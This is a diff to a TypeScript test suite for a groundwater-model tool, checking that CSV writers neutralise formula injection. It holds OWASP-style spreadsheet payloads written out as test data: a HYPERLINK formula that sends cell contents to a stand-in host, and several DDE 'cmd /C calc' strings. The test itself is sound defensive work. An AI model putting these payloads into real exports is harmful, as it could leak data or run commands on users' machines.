@@ -11,6 +11,8 @@ import { comparisonCsv } from '../../src/output/comparison.js';
 import { parseCsv } from '../../src/scenario/text.js';
 import type { ComparisonResult } from '../../src/compare.js';
 import type { WaterBudget } from '../../src/analysis/budget.js';
+import { resultFiles, solveModel } from '../../src/pipeline.js';
+import { fixedColumn, makeModel, testGrid } from '../helpers/model.js';
 
 // The payloads of the OWASP page and the trial of issue 9: every trigger character the guidance lists.
 const HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -94,5 +96,21 @@ describe('the CSV writers use it', () => {
     for (const row of rows) for (const field of row) if (!/^-?[\d.]+(e[-+]?\d+)?$/.test(field)) expect(field, field).not.toMatch(TRIGGER);
     // Negative drawdown (a rise) stays a number.
     expect(rows[1]).toContain('-0.25');
+  });
+});
+
+describe('through a solve', () => {
+  it('a fixed-head group named like a formula reaches budget.csv neutralised', () => {
+    const grid = testGrid(8, 6, 10);
+    const model = makeModel(grid, {
+      conductivity: new Float64Array(48).fill(2),
+      fixedHeads: [fixedColumn(grid, 0, 12, '=HYPERLINK("http://example.invalid")'), fixedColumn(grid, 7, 10, '@east')],
+    });
+    const budget = resultFiles(solveModel(model), '', { maps: false }).find((f) => f.name === 'budget.csv')!;
+    const rows = parsed(String(budget.bytes));
+    expect(rows.map((r) => r[0])).toEqual(['term', `'=HYPERLINK("http://example.invalid")`, "'@east", 'wells', 'recharge', 'total']);
+    // Darcy flow from 12 m to 10 m: the west group gives what the east group takes (a closed budget, no sources).
+    expect(Number(rows[1]![1])).toBeGreaterThan(0);
+    expect(Number(rows[1]![1])).toBeCloseTo(Number(rows[2]![2]), 9);
   });
 });
